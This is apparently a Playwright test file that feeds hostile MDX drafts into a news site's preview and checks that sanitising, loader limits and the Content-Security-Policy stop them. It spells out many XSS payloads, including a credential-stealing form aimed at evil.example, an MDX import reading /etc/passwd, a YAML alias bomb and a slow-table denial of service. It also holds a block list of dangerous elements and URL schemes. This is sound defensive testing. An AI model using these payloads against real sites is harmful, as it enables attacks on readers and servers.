/**
 * Hostile content: article files written to attack the reader's browser or the server. Each
 * is written as a draft into the content folder and opened through the editors' preview,
 * which renders exactly as the published page does. Every case is checked twice: in the
 * server's HTML, and in Chromium, where no dialog may open, no marker set by injected script
 * may appear and no dangerous element may exist in the article.
 */
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { expect, test, type Page } from '@playwright/test';

import { CONTENT_DIR, TEMPORARY_PREFIX } from './support/content';
import { EXAMPLE_ARTICLE } from './support/site';

const SECRET = 'e2e-preview-secret';

interface HostileArticle {
  name: string;
  body: string;
  /** Text that must still be on the page: the prose around the attack survives it. */
  keeps?: string;
  /** Substrings the server HTML must not contain (lower-cased comparison). */
  absent?: string[];
  /** YAML lines added to the front matter. */
  frontMatter?: string;
}

/** Every payload sets this marker or opens a dialog if it ever runs. */
const RUN = 'window.__pwned=1;alert(1)';

const SCRIPT_CASES: HostileArticle[] = [
  {
    name: 'script-element',
    body: `Before.\n\n<script>${RUN}</script>\n\nAfter the script.`,
    keeps: 'After the script.',
    absent: ['__pwned'],
  },
  {
    name: 'img-onerror',
    body: `<p>Picture: <img src="x.jpg" onerror="${RUN}"> caption kept.</p>`,
    keeps: 'caption kept.',
  },
  {
    name: 'svg-onload',
    body: `<p>Logo <svg onload="${RUN}"><circle r="4"/></svg> text kept.</p>`,
    keeps: 'text kept.',
    absent: ['<svg'],
  },
  {
    name: 'svg-script',
    body: `<svg><script>${RUN}</script></svg>\n\nVector text kept.`,
    keeps: 'Vector text kept.',
    absent: ['__pwned'],
  },
  {
    name: 'javascript-link',
    body: `<p>Read <a href="javascript:${RUN}">the report</a> now.</p>`,
    keeps: 'the report',
    absent: ['javascript:'],
  },
  {
    name: 'obfuscated-javascript-link',
    body: `<p><a href="jav&#x09;ascript:${RUN}">tabbed</a> and <a href=" JaVaScRiPt:${RUN}">mixed case</a>.</p>`,
    keeps: 'mixed case',
    absent: ['ascript:'],
  },
  {
    name: 'markdown-javascript-link',
    body: `Read [the study](javascript:${RUN}) today.`,
    keeps: 'the study',
    absent: ['javascript:'],
  },
  {
    name: 'data-url-link',
    body: `<p><a href="data:text/html,<script>${RUN}</script>">data link</a> kept.</p>`,
    keeps: 'data link',
    absent: ['data:text/html'],
  },
  {
    name: 'vbscript-link',
    body: `<p><a href="vbscript:msgbox(1)">legacy</a> kept.</p>`,
    keeps: 'legacy',
    absent: ['vbscript:'],
  },
  {
    name: 'iframe',
    body: `<iframe src="javascript:${RUN}"></iframe>\n<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>\n\nFramed text kept.`,
    keeps: 'Framed text kept.',
    absent: ['<iframe', 'srcdoc'],
  },
  {
    name: 'object-embed',
    body: `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">\n\nPlugin text kept.`,
    keeps: 'Plugin text kept.',
    absent: ['<object', '<embed'],
  },
  {
    name: 'meta-refresh',
    body: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">\n\nRefresh text kept.`,
    keeps: 'Refresh text kept.',
    absent: ['http-equiv="refresh"', 'javascript:'],
  },
  {
    name: 'base-href',
    body: `<base href="https://evil.example/">\n\nBase text kept.`,
    keeps: 'Base text kept.',
    absent: ['evil.example'],
  },
  {
    name: 'form',
    body: `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:${RUN}">Send</button></form>\n\nForm text kept.`,
    keeps: 'Form text kept.',
    absent: ['<form', '<input', 'formaction'],
  },
  {
    name: 'style',
    body: `<style>body{background:url("javascript:${RUN}")}</style>\n\n<p style="background:url(javascript:alert(1))">Styled text kept.</p>`,
    keeps: 'Styled text kept.',
    absent: ['<style', 'url(javascript'],
  },
  {
    name: 'event-handlers',
    body: `<details open ontoggle="${RUN}"><summary>More</summary>Toggle text kept.</details>\n<p onmouseover="${RUN}" onclick="${RUN}">Hover text kept.</p>\n<input autofocus onfocus="${RUN}">`,
    keeps: 'Hover text kept.',
  },
  {
    name: 'media-onerror',
    body: `<video><source src="x.mp4" onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>\n\nMedia text kept.`,
    keeps: 'Media text kept.',
    absent: ['<video', '<audio'],
  },
  {
    name: 'mutation-xss',
    // An unclosed <style> makes the rest of the body its text, as in a browser: prose goes first.
    body: `Mutation text kept.\n\n<noscript><p title="</noscript><img src=x onerror=${RUN}>">\n\n<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
    keeps: 'Mutation text kept.',
  },
  {
    name: 'template-and-textarea',
    body: `<template><script>${RUN}</script></template><textarea></textarea><img src=x onerror="${RUN}"></textarea>\n\nTemplate text kept.`,
    keeps: 'Template text kept.',
    absent: ['<template'],
  },
  {
    name: 'dom-clobbering',
    body: `<p><a id="location" name="self" href="/news">Clobbering text kept.</a><img name="__next_f" src="x.jpg"></p>`,
    keeps: 'Clobbering text kept.',
    absent: ['id="location"', 'name="__next_f"', 'name="self"'],
  },
  {
    name: 'link-and-import',
    body: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">\n\nLink text kept.`,
    keeps: 'Link text kept.',
    absent: ['<link rel="import"', 'evil.example'],
  },
  {
    name: 'mdx-esm-and-expressions',
    body: `import fs from 'node:fs'\n\nexport const stolen = fs.readFileSync('/etc/passwd', 'utf8')\n\n{(() => { ${RUN} })()}\n\nPrice {sharply} higher.\n\n<Widget onLoad={() => alert(1)} />`,
    keeps: 'Price {sharply} higher.',
    absent: ['root:x:0:0'],
  },
];

/** Front matter attacks: the page renders, escaped, and nothing in the YAML runs. */
const FRONT_MATTER_CASES: HostileArticle[] = [
  {
    name: 'title-markup',
    frontMatter: `description: "</title><script>${RUN}</script>"`,
    body: 'Title markup text kept.',
    keeps: 'Title markup text kept.',
    absent: ['</title><script>'],
  },
  {
    name: 'javascript-og-url',
    frontMatter: 'openGraphMetaData:\n  url: "javascript:alert(1)"\n  image: "javascript:alert(1)"',
    body: 'Open Graph text kept.',
    keeps: 'Open Graph text kept.',
    absent: ['javascript:'],
  },
  {
    name: 'yaml-js-tag',
    frontMatter: 'tags: !!js/function "function () { globalThis.__pwned = 1 }"',
    body: 'Tagged text kept.',
    keeps: 'Tagged text kept.',
  },
];

function slugOf(name: string): string {
  return `e2e-hostile-${name}`;
}

function fileOf(name: string): string {
  return `news/${TEMPORARY_PREFIX}hostile-${name}.mdx`;
}

function write(article: HostileArticle) {
  const frontMatter = [
    `title: "Hostile ${article.name}"`,
    `slug: ${slugOf(article.name)}`,
    'date: 2026-01-10',
    'status: draft',
    ...(article.frontMatter ? [article.frontMatter] : []),
  ].join('\n');
  writeFileSync(
    path.join(CONTENT_DIR, fileOf(article.name)),
    `---\n${frontMatter}\n---\n${article.body}\n`,
  );
}

/** Files the loader must refuse: reported and skipped, never rendered, the server unharmed. */
const ALIAS_BOMB = ['lols:', "  l0: &l0 'lol'"];
for (let level = 1; level <= 9; level++)
  ALIAS_BOMB.push(
    `  l${level}: &l${level} [${Array.from({ length: 9 }, () => `*l${level - 1}`).join(', ')}]`,
  );
const TABLE_ROW = `${'| a '.repeat(1000)}|\n`;
const REFUSED: HostileArticle[] = [
  { name: 'alias-bomb', frontMatter: ALIAS_BOMB.join('\n'), body: 'Never shown.' },
  // 1,000 columns by 200 rows: over 20 s to compile, so the 5 s compile time limit stops it.
  { name: 'slow-table', body: `${TABLE_ROW}${'| - '.repeat(1000)}|\n${TABLE_ROW.repeat(200)}` },
];

const RENDERED = [...SCRIPT_CASES, ...FRONT_MATTER_CASES];
const ALL = [...RENDERED, ...REFUSED];

test.describe.configure({ mode: 'serial' });

test.beforeAll(() => {
  for (const article of ALL) write(article);
});

test.afterAll(() => {
  for (const article of ALL) rmSync(path.join(CONTENT_DIR, fileOf(article.name)), { force: true });
});

/** Records (and dismisses) every dialog the page opens; tests expect none. */
function watch(page: Page) {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

async function enterPreview(page: Page, slug: string) {
  await page.goto(`/api/draft?secret=${SECRET}&slug=${slug}`);
  await expect(page.getByRole('status').filter({ hasText: 'Preview:' })).toBeVisible();
}

/** Scripts, frames, plugins, forms and handlers inside the body: none may exist. */
async function injectedElements(page: Page): Promise<string[]> {
  return page.locator('[data-content-body]').evaluateAll((bodies) =>
    bodies.flatMap((article) =>
      [...article.querySelectorAll('*')]
        .filter((element) =>
          [
            'SCRIPT',
            'IFRAME',
            'OBJECT',
            'EMBED',
            'FORM',
            'INPUT',
            'BUTTON',
            'TEXTAREA',
            'BASE',
            'META',
            'STYLE',
            'LINK',
            'TEMPLATE',
            'SVG',
            'svg',
            'MATH',
            'math',
            'VIDEO',
            'AUDIO',
          ].includes(element.tagName),
        )
        .map((element) => element.outerHTML.slice(0, 80))
        .concat(
          [...article.querySelectorAll('*')].flatMap((element) =>
            [...element.attributes]
              .filter(
                (attribute) =>
                  /^on/i.test(attribute.name) ||
                  /^\s*(javascript|data|vbscript):/i.test(attribute.value),
              )
              .map((attribute) => `${element.tagName} ${attribute.name}="${attribute.value}"`),
          ),
        ),
    ),
  );
}

for (const article of RENDERED) {
  test(`hostile body "${article.name}": nothing runs, nothing is injected, the prose stays`, async ({
    page,
  }) => {
    const dialogs = watch(page);
    await enterPreview(page, slugOf(article.name));

    const response = await page.request.get(`/news/${slugOf(article.name)}`);
    expect(response.status()).toBe(200);
    const html = await response.text();
    // Only the framework's scripts, each with this response's nonce, and JSON-LD data blocks.
    const nonce = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')?.[1];
    expect(nonce).toBeTruthy();
    for (const tag of html.match(/<script\b[^>]*>/g) ?? []) {
      if (!tag.includes('application/ld+json')) expect(tag).toContain(`nonce="${nonce}"`);
    }
    // The body's HTML: from its container to the end of the article.
    const body = html
      .slice(html.indexOf('data-content-body'), html.lastIndexOf('</article>'))
      .toLowerCase();
    expect(body.length).toBeGreaterThan(0);
    // Front matter lands in <head> and the article's header: check those attacks page-wide.
    const scope = article.frontMatter ? html.toLowerCase() : body;
    for (const text of article.absent ?? []) expect(scope).not.toContain(text.toLowerCase());
    // No element keeps an event handler; markup inside an attribute's value is only text.
    const handlers = (body.match(/<[a-z][^>]*>/g) ?? []).filter((tag) =>
      /\son[a-z]+\s*=/.test(tag.replace(/"[^"]*"/g, '""')),
    );
    expect(handlers).toEqual([]);

    await page.goto(`/news/${slugOf(article.name)}`);
    await page.waitForLoadState('load');
    const content = page.locator('[data-content-body]');
    if (article.keeps) await expect(content.getByText(article.keeps)).toBeVisible();
    // Hover and click what the body offers, as a reader would; no handler may fire.
    await content.hover();
    for (const link of await content.locator('a[href]').all()) {
      expect((await link.getAttribute('href')) ?? '').not.toMatch(
        /^\s*(javascript|data|vbscript):/i,
      );
    }
    expect(await injectedElements(page)).toEqual([]);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => Object.prototype.hasOwnProperty.call({}, 'polluted'))).toBe(
      false,
    );
    expect(dialogs).toEqual([]);
  });
}

for (const article of REFUSED) {
  test(`hostile file "${article.name}" is refused: it answers 404 and the site stays up`, async ({
    page,
  }) => {
    await enterPreview(page, slugOf('mdx-esm-and-expressions'));
    // Without the limits this would render: the table compiles in over 20 s.
    const response = await page.request.get(`/news/${slugOf(article.name)}`, { timeout: 60_000 });
    expect(response.status()).toBe(404);
    expect((await page.request.get(EXAMPLE_ARTICLE.path)).status()).toBe(200);
  });
}

test('if script ever slipped into a page, the Content-Security-Policy would stop it while the page still works', async ({
  page,
}) => {
  const dialogs = watch(page);
  // Stand in for a sanitiser failure: add script to the server's HTML on its way to the browser.
  await page.route(`**${EXAMPLE_ARTICLE.path}`, async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace(
      '<article',
      `<script>${RUN}</script><img src="x.jpg" onerror="${RUN}"><article`,
    );
    await route.fulfill({ response, body: html });
  });
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
  });
  await page.goto(EXAMPLE_ARTICLE.path);
  await page.waitForLoadState('load');
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  // Chromium reports both the script element and the handler as refused by the policy.
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(2);
  // The framework's own nonce'd scripts ran: the page is hydrated and the search box answers.
  const search = page.getByRole('combobox', { name: /search/i }).first();
  await search.fill('nhs');
  await expect(page.getByRole('listbox').first()).toBeVisible();
});
